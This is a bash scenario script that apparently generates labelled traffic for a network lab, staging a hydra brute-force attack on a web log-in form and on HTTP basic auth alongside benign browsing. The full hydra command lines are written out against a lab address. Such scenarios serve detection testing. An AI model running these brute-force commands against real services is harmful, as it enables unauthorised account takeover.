# shellcheck shell=bash disable=SC2034
TITLE='hydra guesses web passwords: a log-in form and HTTP basic'
KIND=attack
ATTACKER=(203.0.113.50)
VICTIMS=(10.20.0.80)
NEEDS=(web intra)
PROGRAMS=(hydra nginx-light curl unbound nsd)
ORIGIN='An outside host runs hydra http-post-form against /login (150 words; a wrong one gets status 200 and "Wrong user name or password", the right one 302) and then hydra http-get against /admin/ (60 words, HTTP basic, 401), plain HTTP/1.1 on port 80 of the intranet server. pc11 to pc13 browse meanwhile, pc13 logs in at the form once and properly. Times as recorded.'

attack() {
  seq -f 'letmein%03g' 1 150 >"$W/etc/words"
  head -60 "$W/etc/words" >"$W/etc/words60"
  chmod 644 "$W"/etc/words*
  (sleep 3; get pc13 http://intra.ministry.go.example/login
    get pc13 -d user=tanaka -d "pass=$PASSWORD" http://intra.ministry.go.example/login) &
  on evil timeout 100 hydra -I -l admin -P "$W/etc/words" -t 4 10.20.0.80 http-post-form \
    '/login:user=^USER^&pass=^PASS^:F=Wrong user'
  on evil timeout 100 hydra -I -l admin -P "$W/etc/words60" -t 4 10.20.0.80 http-get /admin/
}

scenario() { with_life 'pc11 pc12 pc13' attack; }
